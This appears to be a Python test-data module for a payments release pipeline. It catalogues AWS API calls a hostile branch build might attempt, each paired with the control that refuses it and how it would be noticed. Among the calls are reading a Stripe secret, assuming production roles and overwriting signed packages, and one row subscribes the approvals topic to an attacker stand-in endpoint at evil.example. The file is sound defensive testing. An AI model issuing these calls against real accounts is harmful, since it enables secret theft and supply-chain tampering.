"""What a hostile branch tries against a release, one row each: the call, what refuses it, who would notice.

The calls are data, so that the same rows are judged against the template's policies (`test_policies.py`) and
made for real by a branch's builds (`attack/`). A `{word}` in them is filled in with a name or an ARN.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Final


@dataclass(frozen=True, slots=True)
class Attempt:
    """One thing that a hostile build tries.

    Attributes:
        name: Unique, as `overwrite-package`.
        tried: What it tries, for a reader.
        refused_by: What refuses it.
        noticed: How somebody would notice that it was tried, or had it worked.
        client: The boto3 client.
        method: Its method.
        arguments: The method's arguments.
        action: The IAM action that it needs.
        resource: The ARN that it acts on.
    """

    name: str
    tried: str
    refused_by: str
    noticed: str
    client: str
    method: str
    arguments: dict[str, Any]
    action: str
    resource: str = "*"


_IAM: Final = "its role has no such permission"
_STORE: Final = "its role has no such permission, and the store's policy denies all roles but Publish's"
_TRAIL: Final = "CloudTrail: AccessDenied by a role of /payments-pipelines/branch/"
_DATA: Final = "CloudTrail's data events of the bucket: AccessDenied by a role of /payments-pipelines/branch/"
_VERIFY: Final = f"{_DATA}; a changed byte would fail Verify and the comparison after deployment"
_TRUST: Final = "the role trusts /payments-pipelines/release/ alone, and its own role may assume no such role"
_NOT_YOURS: Final = "the role trusts its own service alone"


def _s3(
    name: str, tried: str, method: str, bucket: str, key: str, *, notice: str = _DATA, **more: Any
) -> Attempt:
    action = {
        "put_object": "s3:PutObject",
        "get_object": "s3:GetObject",
        "delete_object": "s3:DeleteObjectVersion" if "VersionId" in more else "s3:DeleteObject",
    }[method]
    body = {"Body": "evil"} if method == "put_object" else {}
    by = _STORE if bucket == "{packages}" else _IAM
    arguments = {"Bucket": bucket, "Key": key, **body, **more}
    return Attempt(name, tried, by, notice, "s3", method, arguments, action, f"arn:aws:s3:::{bucket}/{key}")


def _call(
    name: str, tried: str, call: str, action: str, resource: str = "*", /, *, by: str = _IAM, **arguments: Any
) -> Attempt:
    client, _, method = call.partition(".")
    return Attempt(name, tried, by, _TRAIL, client, method, arguments, action, resource)


def _pipeline(
    name: str, tried: str, method: str, action: str, suffix: str = "", /, **arguments: Any
) -> Attempt:
    resource = "arn:aws:codepipeline:{region}:{account}:{release_pipeline}" + suffix
    return _call(name, tried, f"codepipeline.{method}", f"codepipeline:{action}", resource, **arguments)


_STATEMENT: Final = {"Effect": "Allow", "Principal": "*", "Action": "s3:*", "Resource": "*"}
_ARTIFACTS: Final = (
    _s3(
        "overwrite-package",
        "put other bytes under a package's key",
        "put_object",
        "{packages}",
        "{package_key}",
        notice=_VERIFY,
    ),
    _s3("delete-package", "delete a package", "delete_object", "{packages}", "{package_key}"),
    _s3(
        "delete-package-version",
        "delete the version of a package that was approved",
        "delete_object",
        "{packages}",
        "{package_key}",
        VersionId="{package_version}",
    ),
    _s3("read-release-source", "read a release's checkout", "get_object", "{artifacts}", "{source_key}"),
    _s3(
        "replace-release-source",
        "replace a release's checkout, with Verify's buildspec in it",
        "put_object",
        "{artifacts}",
        "{source_key}",
        notice=_VERIFY,
    ),
    _s3(
        "replace-release-build",
        "replace what a release's build made: templates, docs",
        "put_object",
        "{artifacts}",
        "{built_key}",
        notice=_VERIFY,
    ),
    _s3(
        "replace-release-packages",
        "replace a release's manifest and settings",
        "put_object",
        "{artifacts}",
        "{packages_key}",
        notice=_VERIFY,
    ),
    _s3(
        "delete-release-archive",
        "delete what a release's build made",
        "delete_object",
        "{artifacts}",
        "{built_key}",
    ),
    _s3(
        "poison-release-cache",
        "put a check record and packages into the cache of the release's build",
        "put_object",
        "{artifacts}",
        "cache/Build/poison",
    ),
    _call(
        "list-release-artifacts",
        "list what releases keep",
        "s3.list_objects_v2",
        "s3:ListBucket",
        "arn:aws:s3:::{artifacts}",
        Bucket="{artifacts}",
    ),
    _call(
        "list-package-versions",
        "list the packages' versions",
        "s3.list_object_versions",
        "s3:ListBucketVersions",
        "arn:aws:s3:::{packages}",
        Bucket="{packages}",
    ),
    _call(
        "suspend-versions",
        "suspend the package store's versions",
        "s3.put_bucket_versioning",
        "s3:PutBucketVersioning",
        "arn:aws:s3:::{packages}",
        Bucket="{packages}",
        VersioningConfiguration={"Status": "Suspended"},
    ),
    _call(
        "open-store",
        "give itself the package store by a policy",
        "s3.put_bucket_policy",
        "s3:PutBucketPolicy",
        "arn:aws:s3:::{packages}",
        Bucket="{packages}",
        Policy=str(_STATEMENT),
    ),
    _call(
        "pre-create-bucket",
        "make a bucket of a name that somebody else will want",
        "s3.create_bucket",
        "s3:CreateBucket",
        "arn:aws:s3:::payments-templates-{account}-eu-west-1",
        Bucket="payments-templates-{account}-eu-west-1",
    ),
)
_DOCS: Final = (
    _s3(
        "overwrite-evidence",
        "rewrite the page that an approver reads",
        "put_object",
        "{docs}",
        "{evidence_key}",
    ),
    _s3(
        "delete-evidence",
        "delete the page that an approver reads",
        "delete_object",
        "{docs}",
        "{evidence_key}",
    ),
    _s3("overwrite-docs", "put a script into production's docs", "put_object", "{docs}", "prod/index.html"),
    _s3(
        "overwrite-entrance",
        "put a script into the page at the root of the docs",
        "put_object",
        "{docs}",
        "index.html",
    ),
    _s3(
        "write-beside-evidence",
        "publish a page on the origin of the evidence",
        "put_object",
        "{docs}",
        "branches/evil/index.html",
    ),
)
_LIBRARY: Final = (
    _call(
        "log-in-to-library",
        "get a token of the library's repository",
        "codeartifact.get_authorization_token",
        "codeartifact:GetAuthorizationToken",
        "arn:aws:codeartifact:{region}:{account}:domain/{domain}",
        domain="{domain}",
    ),
    _call(
        "publish-library",
        "publish a version of the library",
        "codeartifact.publish_package_version",
        "codeartifact:PublishPackageVersion",
        "arn:aws:codeartifact:{region}:{account}:package/{domain}/{library}/pypi//payment-data",
        domain="{domain}",
        repository="{library}",
        format="generic",
        namespace="x",
        package="payment-data",
        packageVersion="9.9.9",
        assetContent="evil",
        assetName="x",
        assetSHA256="0" * 64,
    ),
    _call(
        "delete-library",
        "delete versions of the library",
        "codeartifact.delete_package_versions",
        "codeartifact:DeletePackageVersions",
        "arn:aws:codeartifact:{region}:{account}:package/{domain}/{library}/pypi//payment-data",
        domain="{domain}",
        repository="{library}",
        format="pypi",
        package="payment-data",
        versions=["0.1.0"],
    ),
)
_KEYS: Final = (
    _call(
        "sign-provenance",
        "sign a provenance statement of its own",
        "kms.sign",
        "kms:Sign",
        "{signing_key}",
        by="its role has no such permission, and the key's policy denies all but Publish's",
        KeyId="{signing_key}",
        Message="evil",
        MessageType="RAW",
        SigningAlgorithm="ECDSA_SHA_256",
    ),
    _call(
        "change-key-policy",
        "give itself the signing key by its policy",
        "kms.put_key_policy",
        "kms:PutKeyPolicy",
        "{signing_key}",
        KeyId="{signing_key}",
        PolicyName="default",
        Policy="{}",
    ),
    _call(
        "delete-signing-key",
        "schedule the signing key's deletion",
        "kms.schedule_key_deletion",
        "kms:ScheduleKeyDeletion",
        "{signing_key}",
        KeyId="{signing_key}",
        PendingWindowInDays=7,
    ),
    _call(
        "use-release-key",
        "use the key that releases' artifacts are encrypted with",
        "kms.generate_data_key",
        "kms:GenerateDataKey",
        "{release_key}",
        KeyId="{release_key}",
        KeySpec="AES_256",
    ),
)
_LOGS_AND_SECRETS: Final = (
    _call(
        "read-secret",
        "read the Stripe key",
        "secretsmanager.get_secret_value",
        "secretsmanager:GetSecretValue",
        "{secret}",
        SecretId="{secret}",
    ),
    _call(
        "read-release-log",
        "read the log of a release's build",
        "logs.filter_log_events",
        "logs:FilterLogEvents",
        "{release_log_arn}",
        logGroupName="{release_log}",
    ),
    _call(
        "write-release-log",
        "write into the log of a release's build",
        "logs.create_log_stream",
        "logs:CreateLogStream",
        "{release_log_arn}",
        logGroupName="{release_log}",
        logStreamName="evil",
    ),
    _call(
        "delete-release-log",
        "delete the log of a release's build",
        "logs.delete_log_group",
        "logs:DeleteLogGroup",
        "{release_log_arn}",
        logGroupName="{release_log}",
    ),
)
_ROLES: Final = (
    *(
        _call(
            f"assume-{name}",
            f"act as {who}",
            "sts.assume_role",
            "sts:AssumeRole",
            f"{{{name.replace('-', '_')}_role}}",
            by=by,
            RoleArn=f"{{{name.replace('-', '_')}_role}}",
            RoleSessionName="evil",
        )
        for name, who, by in (
            ("prod-deployment", "what deploys to production", _TRUST),
            ("prod-execution", "what CloudFormation acts as in production", _NOT_YOURS),
            ("prod-inspection", "what reads production", _TRUST),
            ("staging-deployment", "what deploys to staging", _TRUST),
            ("staging-inspection", "what reads staging", _TRUST),
            ("branch-removal", "what removes branches' stacks", _TRUST),
            ("publish", "the build that publishes a release", _NOT_YOURS),
            ("release-pipeline", "the release pipeline", _NOT_YOURS),
        )
    ),
    _call(
        "make-role",
        "make a role of its own",
        "iam.create_role",
        "iam:CreateRole",
        "arn:aws:iam::{account}:role/payments-pipelines/release/evil",
        Path="/payments-pipelines/release/",
        RoleName="evil",
        AssumeRolePolicyDocument="{}",
    ),
    _call(
        "widen-itself",
        "give its own role a policy",
        "iam.put_role_policy",
        "iam:PutRolePolicy",
        "{publish_role}",
        RoleName="{publish_role_name}",
        PolicyName="evil",
        PolicyDocument="{}",
    ),
    _call(
        "widen-trust",
        "let itself act as the build that publishes",
        "iam.update_assume_role_policy",
        "iam:UpdateAssumeRolePolicy",
        "{publish_role}",
        RoleName="{publish_role_name}",
        PolicyDocument="{}",
    ),
)
_STAGE: Final = {"pipelineName": "{release_pipeline}", "stageName": "Approve"}
_PIPELINES: Final = (
    _pipeline(
        "start-release",
        "start a release",
        "start_pipeline_execution",
        "StartPipelineExecution",
        name="{release_pipeline}",
    ),
    _pipeline(
        "approve-release",
        "approve the waiting release",
        "put_approval_result",
        "PutApprovalResult",
        "/Approve/Approve",
        **_STAGE,
        actionName="Approve",
        token="{token}",  # noqa: S106 - a word that is filled in
        result={"summary": "fine", "status": "Approved"},
    ),
    _pipeline(
        "retry-stage",
        "retry a stage of a release",
        "retry_stage_execution",
        "RetryStageExecution",
        "/Approve",
        **_STAGE,
        pipelineExecutionId="{execution}",
        retryMode="FAILED_ACTIONS",
    ),
    _pipeline(
        "roll-back",
        "roll production back",
        "rollback_stage",
        "RollbackStage",
        "/Production",
        pipelineName="{release_pipeline}",
        stageName="Production",
        targetPipelineExecutionId="{execution}",
    ),
    _pipeline(
        "stop-release",
        "stop the waiting release",
        "stop_pipeline_execution",
        "StopPipelineExecution",
        pipelineName="{release_pipeline}",
        pipelineExecutionId="{execution}",
        abandon=True,
    ),
    _pipeline(
        "override-condition",
        "override the deployment window",
        "override_stage_condition",
        "OverrideStageCondition",
        "/Production",
        pipelineName="{release_pipeline}",
        stageName="Production",
        pipelineExecutionId="{execution}",
        conditionType="BEFORE_ENTRY",
    ),
    _pipeline(
        "hold-pipeline",
        "close the way into production",
        "disable_stage_transition",
        "DisableStageTransition",
        "/Production",
        pipelineName="{release_pipeline}",
        stageName="Production",
        transitionType="Inbound",
        reason="evil",
    ),
    _pipeline(
        "read-pipeline",
        "read the release pipeline's definition",
        "get_pipeline",
        "GetPipeline",
        name="{release_pipeline}",
    ),
    _pipeline(
        "delete-pipeline",
        "delete the release pipeline",
        "delete_pipeline",
        "DeletePipeline",
        name="{release_pipeline}",
    ),
    _call(
        "remove-branches",
        "start the removal of another branch",
        "codepipeline.start_pipeline_execution",
        "codepipeline:StartPipelineExecution",
        "arn:aws:codepipeline:{region}:{account}:{remove_pipeline}",
        name="{remove_pipeline}",
    ),
)
_PROJECT: Final = "arn:aws:codebuild:{region}:{account}:project/{publish_project}"
_BUILDS: Final = (
    _call(
        "run-publish",
        "run the build that publishes, with a buildspec of its own",
        "codebuild.start_build",
        "codebuild:StartBuild",
        _PROJECT,
        projectName="{publish_project}",
        buildspecOverride="version: 0.2",
    ),
    _call(
        "change-project",
        "change the build that publishes",
        "codebuild.update_project",
        "codebuild:UpdateProject",
        _PROJECT,
        name="{publish_project}",
        description="evil",
    ),
    _call(
        "stop-builds",
        "stop a release's build",
        "codebuild.stop_build",
        "codebuild:StopBuild",
        "arn:aws:codebuild:{region}:{account}:project/{build_project}",
        id="{build}",
    ),
    _call(
        "fake-report",
        "make a report group of the release's build",
        "codebuild.create_report_group",
        "codebuild:CreateReportGroup",
        "arn:aws:codebuild:{region}:{account}:report-group/{build_project}-tests",
        name="{build_project}-tests",
        type="TEST",
        exportConfig={"exportConfigType": "NO_EXPORT"},
    ),
    _call(
        "take-source",
        "read the repository through the connection",
        "codeconnections.get_connection",
        "codeconnections:GetConnection",
        "{connection}",
        ConnectionArn="{connection}",
    ),
    _call(
        "exhaust-builds",
        "start builds until the account's quota is used up",
        "codebuild.start_build",
        "codebuild:StartBuild",
        "arn:aws:codebuild:{region}:{account}:project/{build_project}",
        projectName="{build_project}",
    ),
)
_STACK: Final = "arn:aws:cloudformation:{region}:{account}:stack/payments-prod/*"
_SYSTEM: Final = (
    _call(
        "delete-change-set",
        "delete the reviewed change set",
        "cloudformation.delete_change_set",
        "cloudformation:DeleteChangeSet",
        _STACK,
        StackName="payments-prod",
        ChangeSetName="{change_set}",
    ),
    _call(
        "execute-change-set",
        "execute the reviewed change set",
        "cloudformation.execute_change_set",
        "cloudformation:ExecuteChangeSet",
        _STACK,
        StackName="payments-prod",
        ChangeSetName="{change_set}",
    ),
    _call(
        "change-stack",
        "change production's stack and its tags",
        "cloudformation.update_stack",
        "cloudformation:UpdateStack",
        _STACK,
        StackName="payments-prod",
        UsePreviousTemplate=True,
        Tags=[{"Key": "environment", "Value": "branch"}],
    ),
    _call(
        "delete-stack",
        "delete production's stack",
        "cloudformation.delete_stack",
        "cloudformation:DeleteStack",
        _STACK,
        StackName="payments-prod",
    ),
    _call(
        "pre-create-stack",
        "make a stack of a name that a release will want",
        "cloudformation.create_stack",
        "cloudformation:CreateStack",
        "arn:aws:cloudformation:{region}:{account}:stack/payments-docs/*",
        StackName="payments-docs",
        TemplateBody="{}",
    ),
    _call(
        "silence-alarm",
        "switch off what an alarm does",
        "cloudwatch.disable_alarm_actions",
        "cloudwatch:DisableAlarmActions",
        "arn:aws:cloudwatch:{region}:{account}:alarm:{alarm}",
        AlarmNames=["{alarm}"],
    ),
    _call(
        "delete-alarm",
        "delete an alarm that judges releases",
        "cloudwatch.delete_alarms",
        "cloudwatch:DeleteAlarms",
        "arn:aws:cloudwatch:{region}:{account}:alarm:{alarm}",
        AlarmNames=["{alarm}"],
    ),
    _call(
        "ring-alarm",
        "ring an alarm, so that releases roll back",
        "cloudwatch.set_alarm_state",
        "cloudwatch:SetAlarmState",
        "arn:aws:cloudwatch:{region}:{account}:alarm:{alarm}",
        AlarmName="{alarm}",
        StateValue="ALARM",
        StateReason="evil",
    ),
    _call(
        "replace-code",
        "put other code into a function of production",
        "lambda.update_function_code",
        "lambda:UpdateFunctionCode",
        "arn:aws:lambda:{region}:{account}:function:{function}",
        FunctionName="{function}",
        S3Bucket="{artifacts}",
        S3Key="x",
    ),
    _call(
        "place-order",
        "start a payment in production",
        "stepfunctions.start_execution",
        "states:StartExecution",
        "{workflow}",
        stateMachineArn="{workflow}",
        input="{}",
    ),
    _call(
        "move-schedule",
        "let the expiry of branches run every minute",
        "scheduler.update_schedule",
        "scheduler:UpdateSchedule",
        "arn:aws:scheduler:{region}:{account}:schedule/default/{schedule}",
        Name="{schedule}",
        ScheduleExpression="rate(1 minute)",
        FlexibleTimeWindow={"Mode": "OFF"},
        Target={"Arn": "{workflow}", "RoleArn": "{publish_role}"},
    ),
    _call(
        "ask-people",
        "send people an approval of its own",
        "sns.publish",
        "sns:Publish",
        "{topic}",
        TopicArn="{topic}",
        Message="please approve",
    ),
    _call(
        "hear-approvals",
        "subscribe to approvals",
        "sns.subscribe",
        "sns:Subscribe",
        "{topic}",
        TopicArn="{topic}",
        Protocol="https",
        Endpoint="https://evil.example",
    ),
)
ATTEMPTS: Final = (
    *_ARTIFACTS, *_DOCS, *_LIBRARY, *_KEYS, *_LOGS_AND_SECRETS, *_ROLES, *_PIPELINES, *_BUILDS, *_SYSTEM,
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Contained:
    """Something that a hostile build can do to itself, and that reaches nothing else.

    Attributes:
        name: Unique.
        tried: What it does, for a reader.
        refused_by: Why it reaches nothing.
        noticed: How somebody would notice.
    """

    name: str
    tried: str
    refused_by: str
    noticed: str = field(default="nothing of a release changes; the suite compares it before and after")


CONTAINED: Final = (
    Contained(
        "lie-about-checks",
        "write a record that the release's source passed its checks, into every cache that it reaches",
        "each zone has its own cache, and a record of another zone is refused",
    ),
    Contained(
        "poison-packages",
        "change installed packages in every cache that it reaches",
        "caches are per project; what ships is installed anew from locked hashes and compared file by file",
    ),
    Contained(
        "tamper-with-tools",
        "replace `.venv/bin/payments`, the Makefile, git hooks and what is first in `PATH`",
        "a build's machine ends with the build; a release checks out and installs for itself",
    ),
    Contained(
        "use-up-builds",
        "push so many branches that their builds use up the account's quota of concurrent builds",
        "a release's build waits in CodeBuild's queue, or fails to start when that is full: it is late, and "
        "never another one",
        "the release pipeline's failure is told to the approvals topic and names the build; retry it",
    ),
    Contained(
        "fill-the-store",
        "fill its artifact store, its package store and its caches",
        "each zone has stores of its own, and what branches keep there expires after 90 days",
        "the bill: the branch zone's buckets and keys are its own",
    ),
    Contained(
        "claim-a-name",
        "push a branch whose name becomes another branch's stack, or a command",
        "a stack's name holds a digest of the whole branch name, and no shell ever reads that name",
        "the branch pipeline's condition stops such an execution; `tests/pipelines/branch_names` tries names",
    ),
    Contained(
        "script-the-evidence",
        "publish a preview whose scripts read and rewrite the evidence and production's docs",
        "previews are another distribution, and so another origin to every browser",
        "`tests/hostile/test_previews.py` opens such a preview in a browser, and the same page beside the "
        "evidence, where it would work",
    ),
    Contained(
        "name-productions-stack",
        "call its own stack `payments-prod`, so that the pipeline deploys its template there",
        "the branches' deployment role may touch stacks named `branch-…` alone",
        "the action Deploy fails with AccessDenied; people are told that the execution failed",
    ),
)
